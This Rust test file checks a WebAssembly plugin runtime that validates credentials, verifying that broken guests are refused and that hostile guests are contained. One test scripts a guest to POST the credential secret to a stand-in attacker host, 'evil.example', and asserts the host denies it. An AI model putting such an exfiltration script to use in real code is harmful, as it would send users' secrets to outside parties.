//! The guests are what they claim to be: most load, each broken one is refused for its own reason, and the scripted one
//! does what its script says. What the host does about the hostile ones is tested from outside, with the server's tests.

use std::sync::Arc;
use std::time::Duration;

use claviger_runtime::{
    CallContext, CallError, Field, FieldValue, LoadError, Plugin, PluginSettings, Provenance,
    Report, Runtime, RuntimeOptions, Secret, Subject,
};
use claviger_test_guests as guests;

fn runtime() -> Runtime {
    Runtime::new(RuntimeOptions {
        cpu: Duration::from_secs(5),
        ..RuntimeOptions::default()
    })
    .expect("a runtime")
}

async fn load(runtime: &Runtime, wasm: &'static [u8]) -> Result<Arc<Plugin>, LoadError> {
    runtime
        .load(wasm, Provenance::Embedded, &PluginSettings::default())
        .await
}

/// A credential with a secret and text fields.
fn subject(kind: &str, texts: &[(&str, &str)]) -> Subject {
    let field = |(name, value): &(&str, &str)| Field {
        name: (*name).to_owned(),
        value: FieldValue::Text((*value).to_owned()),
    };
    let secret = Field {
        name: "secret".to_owned(),
        value: FieldValue::Secret(Secret::from("s3cret-of-the-test".to_owned())),
    };
    Subject {
        id: "1".to_owned(),
        name: "test".to_owned(),
        kind: kind.to_owned(),
        version: 1,
        fields: std::iter::once(secret)
            .chain(texts.iter().map(field))
            .collect(),
        metadata: Vec::new(),
        external_id: None,
        handle: None,
        expires_at_ms: None,
        origins: Vec::new(),
    }
}

async fn call(
    wasm: &'static [u8],
    kind: &str,
    texts: &[(&str, &str)],
) -> Result<Report, CallError> {
    let plugin = load(&runtime(), wasm).await.expect("the guest loads");
    plugin
        .validate(CallContext::default(), subject(kind, texts))
        .await
        .result
}

fn detail<'r>(report: &'r Report, key: &str) -> &'r str {
    let found = report.details.iter().find(|(name, _)| name == key);
    found.map_or_else(
        || panic!("no {key} in {:?}", report.details),
        |(_, value)| value.as_str(),
    )
}

#[tokio::test]
async fn broken_guests_are_refused_for_their_own_reason() {
    let runtime = runtime();
    for (wasm, reason) in [
        (guests::DESCRIBE_TRAP, "there is no manifest"),
        (guests::DESCRIBE_GARBAGE, "manifest.schema.json"),
        (guests::DESCRIBE_UNKNOWN_KEY, "path-prefx"),
        (guests::UNKNOWN_IMPORT, "evil:host/shell"),
        (guests::WRONG_VERSION_IMPORT, "9.0.0"),
        (guests::WRONG_VERSION_EXPORT, "9.0.0"),
    ] {
        let error = load(&runtime, wasm)
            .await
            .err()
            .unwrap_or_else(|| panic!("it loads in spite of {reason}"));
        assert!(error.to_string().contains(reason), "{reason}: {error}");
    }
}

#[tokio::test]
async fn hostile_guests_load() {
    let runtime = runtime();
    for wasm in [
        guests::ECHO,
        guests::ENDLESS_LOOP,
        guests::ENDLESS_RECURSION,
        guests::MEMORY_BOMB,
        guests::MANY_MEMORIES,
        guests::LOG_FLOOD,
        guests::STDOUT_FLOOD,
        guests::HANDLE_BOMB,
        guests::HANG_IN_HOST_CALL,
        guests::SLEEP,
        guests::PANIC,
        guests::STATEFUL,
        guests::GARBAGE_RESULTS,
        guests::SOCKETS,
        guests::FILES,
        guests::ENVIRONMENT,
        guests::PRIVATE_ADDRESSES,
        guests::REDIRECT_FOLLOWER,
        guests::LEAKER,
        guests::SENDER,
        guests::SIGNER,
        guests::REVEALER,
        guests::REVEALS_UNASKED,
        guests::RECOGNISES_EVERYTHING,
        guests::TAKES_OPENAI,
        guests::NO_CAPABILITY,
        guests::DESCRIBE_CALLS_HTTP,
    ] {
        load(&runtime, wasm)
            .await
            .unwrap_or_else(|error| panic!("{error}"));
    }
}

#[tokio::test]
async fn echo_answers_with_what_it_was_given() {
    let report = call(guests::ECHO, "test", &[("what", "hello")])
        .await
        .expect("a report");
    assert_eq!(report.account.as_deref(), Some("test"));
    assert_eq!(detail(&report, "what"), "hello");
    assert!(
        detail(&report, "secret").starts_with("clv"),
        "{:?}",
        report.details
    );
}

#[tokio::test]
async fn many_memories_take_more_than_one_may_have() {
    let error = call(guests::MANY_MEMORIES, "test", &[])
        .await
        .expect_err("192 MiB");
    assert!(matches!(error, CallError::OutOfMemory { .. }), "{error}");
}

#[tokio::test]
async fn the_sender_does_what_its_script_says() {
    let script = r#"[
        {"name": "evil", "method": "POST", "url": "https://evil.example/", "headers": [["x-a", "{secret|upper}"]], "body": "{secret}"},
        {"name": "broken", "sign": "{secret}", "scheme": "hmac-sha256", "encoding": "hex", "message": "text"}
    ]"#;
    let report = call(guests::SENDER, "scripted", &[("script", script)])
        .await
        .expect("a report");
    assert_eq!(detail(&report, "evil.failure"), "denied");
    assert_eq!(detail(&report, "broken.failure"), "denied");
    let error = call(guests::SENDER, "scripted", &[("script", "{}")])
        .await
        .expect_err("no script");
    assert!(error.to_string().contains("the script is none"), "{error}");
}
